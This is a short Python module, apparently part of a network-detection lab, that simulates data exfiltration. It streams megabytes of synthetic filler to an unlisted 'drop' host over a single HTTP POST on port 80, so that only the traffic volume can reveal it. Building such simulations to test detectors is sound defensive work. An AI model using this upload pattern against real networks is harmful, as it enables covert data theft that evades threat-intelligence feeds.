"""Sends much to a peer outside that no feed lists, in one upload: only the amount can tell."""

from __future__ import annotations

from netpersona.app.lab.attacks.order import PATIENCE, Order, Tally, connected
from netpersona.app.lab.layout import DROP

_MEGABYTE = bytes(range(250)) * 4_000


def run(order: Order, tally: Tally) -> str:
    """Upload a megabyte each turn, in one connection; what was done, in words."""
    address = DROP.address(order.families[0])
    head = f"POST /upload HTTP/1.1\r\nHost: drop\r\nContent-Length: {order.count * len(_MEGABYTE)}\r\n"
    try:
        with connected(address, 80, PATIENCE) as line:
            line.sendall(head.encode() + b"Connection: close\r\n\r\n")
            for _ in order.turns():
                line.sendall(_MEGABYTE)
                tally.answer()
            if not line.recv(4_096):
                raise ConnectionResetError
    except OSError as error:
        tally.failure(error)
    return f"megabytes sent to {address}, tcp port 80"
